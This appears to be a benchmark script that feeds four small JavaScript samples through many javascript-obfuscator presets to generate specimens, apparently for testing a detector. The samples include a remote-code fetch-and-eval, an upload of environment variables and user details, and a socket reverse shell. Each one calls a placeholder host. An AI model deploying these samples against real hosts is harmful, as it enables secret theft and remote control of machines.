// Makes inert specimens with the presets of javascript-obfuscator: node bench/obfuscated.js OUT
// The package is taken from the folder in which this is started (npm install javascript-obfuscator).
// The programs below start `true` at most, and speak to names that do not exist.
const fs = require("fs");
const path = require("path");
const { createRequire } = require("module");
const obfuscator = createRequire(path.join(process.cwd(), "x.js"))("javascript-obfuscator");

const PROGRAMS = {
  exec: `const cp=require("child_process");const os=require("os");function go(){cp.exec("true");return os.hostname();}go();module.exports={go};`,
  fetch: `async function load(){const r=await fetch("https://cdn.example.invalid/a.js");const t=await r.text();eval(t);}\nload();`,
  env: `const https=require("https");const os=require("os");const data=JSON.stringify({h:os.hostname(),u:os.userInfo().username,e:process.env});const q=https.request({hostname:"collect.example.invalid",path:"/p",method:"POST"});q.write(data);q.end();`,
  sock: `const net=require("net");const cp=require("child_process");const s=net.connect(4444,"c2.example.invalid");s.on("data",function(d){cp.exec(d.toString(),function(e,o){s.write(o)})});`,
};
const table = { stringArray: true, stringArrayThreshold: 1 };
const all = { ...table, stringArrayRotate: true, stringArrayShuffle: true };
const PRESETS = {
  default: table,
  plain: { ...table, stringArrayRotate: false, stringArrayShuffle: false, stringArrayIndexShift: false },
  rotate: all,
  base64: { ...all, stringArrayEncoding: ["base64"] },
  rc4: { ...all, stringArrayEncoding: ["rc4"] },
  mixed: { ...all, stringArrayEncoding: ["none", "base64", "rc4"] },
  wrapvar: { ...table, stringArrayWrappersCount: 3, stringArrayWrappersType: "variable", stringArrayWrappersChainedCalls: true },
  wrapfun: { ...table, stringArrayWrappersCount: 3, stringArrayWrappersType: "function", stringArrayWrappersParametersMaxCount: 5, stringArrayEncoding: ["rc4"] },
  calls: { ...table, stringArrayCallsTransform: true, stringArrayCallsTransformThreshold: 1, stringArrayEncoding: ["base64"] },
  split: { ...table, splitStrings: true, splitStringsChunkLength: 3 },
  splitonly: { stringArray: false, splitStrings: true, splitStringsChunkLength: 2 },
  cff: { ...table, controlFlowFlattening: true, controlFlowFlatteningThreshold: 1 },
  dead: { ...table, deadCodeInjection: true, deadCodeInjectionThreshold: 1 },
  selfdef: { ...table, selfDefending: true, stringArrayEncoding: ["rc4"] },
  debug: { ...table, debugProtection: true, disableConsoleOutput: true },
  unicode: { ...table, unicodeEscapeSequence: true },
  unicodeonly: { stringArray: false, unicodeEscapeSequence: true },
  numbers: { ...table, numbersToExpressions: true },
  spread: { ...table, simplify: false, compact: false },
  keys: { ...table, transformObjectKeys: true },
  mangled: { ...table, identifierNamesGenerator: "mangled", stringArrayEncoding: ["base64"] },
  shuffled: { ...table, identifierNamesGenerator: "mangled-shuffled", stringArrayEncoding: ["rc4"], stringArrayWrappersCount: 2, stringArrayWrappersType: "function" },
  low: { optionsPreset: "low-obfuscation" },
  medium: { optionsPreset: "medium-obfuscation" },
  high: { optionsPreset: "high-obfuscation" },
};

const out = process.argv[2];
fs.mkdirSync(out, { recursive: true });
for (const [program, source] of Object.entries(PROGRAMS))
  for (const [preset, options] of Object.entries(PRESETS)) {
    const made = obfuscator.obfuscate(source, { target: "node", compact: true, seed: 7, ...options });
    fs.writeFileSync(path.join(out, `${program}.${preset}.js`), made.getObfuscatedCode());
  }
